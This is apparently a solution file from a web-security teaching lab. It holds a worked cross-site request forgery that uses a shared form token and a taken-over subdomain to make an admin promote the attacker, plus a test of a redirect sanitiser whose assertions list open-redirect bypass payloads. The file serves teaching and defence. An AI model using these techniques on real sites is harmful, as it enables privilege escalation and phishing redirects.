"""Lesson 6: a form that somebody else's browser sends, and a test that catches wrong redirects."""

from collections.abc import Callable

from authlab.lab.browser import Browser


def forge_a_form(lure: Callable[[str, str, dict[str, str]], None], mallory: Browser) -> str:
    """Return the text of the page at `/admin`, which lists all members and
    opens for admins only.

    You are Mallory, member 4, and no admin. Grace is one. The app believes
    every host under `lab.test`, and the token in its forms is the same for
    everybody.

    - `lure(page, path, fields)` gets Grace to open a page of yours at the
      origin `page`. It sends a form with these `fields` to `path` of the app,
      from Grace's browser, in which she is signed in. You have pages at
      `"https://evil.test"` and at `"https://evil.lab.test"`, a forgotten host
      that you have got hold of. The call returns nothing: a page cannot read
      what another site answers.
    - `mallory` is your own browser, signed in. `mallory.get("/admin").text` is
      a page as you see it, `mallory.form_token()` the hidden token of the
      forms that the app shows you.
    - The form with which an admin gives member 7 a role posts to
      `/admin/users/7/role`. Its fields are `csrf`, the token, and `role`, which
      is `"user"` or `"admin"`.

    Against the app without the hole the same requests bring nothing, and must
    not crash: return what comes.
    """
    lure(
        "https://evil.lab.test",
        "/admin/users/4/role",
        {"csrf": mallory.form_token(), "role": "admin"},
    )
    return mallory.get("/admin").text


def prove_safe_next(safe_next: Callable[..., str]) -> None:
    """Prove with `assert` that a `safe_next` keeps the rules of exercise 6.5.
    Return nothing.

    Your proof gets the function to judge, and calls it as you would:
    `safe_next(wanted, own_origin)`, or with a `default` as the third. It is
    run on wrong versions, each of which must make one of your assertions fail,
    and on right ones in other styles, which must pass. All of them return a
    text and never raise.

    The right ones agree on paths of letters, digits, `-` and single slashes,
    with or without a query such as `?q=ada&page=2`, on whatever a browser would
    take to another site, and on what opens no page or is missing. Only a
    failing `assert` counts: a proof that crashes has proven nothing.
    """
    own = "https://lab.test"
    assert safe_next("/devices", own) == "/devices"
    assert safe_next("/members?q=ada&page=2", own) == "/members?q=ada&page=2"
    assert safe_next(None, own) == "/"
    assert safe_next("", own) == "/"
    assert safe_next("javascript:alert(1)", own) == "/"
    assert safe_next("https://evil.test", own, "/profile") == "/profile"
    assert safe_next("//evil.test", own) == "/"
    assert safe_next("////evil.test", own) == "/"
    assert safe_next("/\\evil.test", own) == "/"
    assert safe_next("/\t/evil.test", own) == "/"
    assert safe_next("http:evil.test", own) == "/"
    assert safe_next("https://lab.test.evil.test", own) == "/"
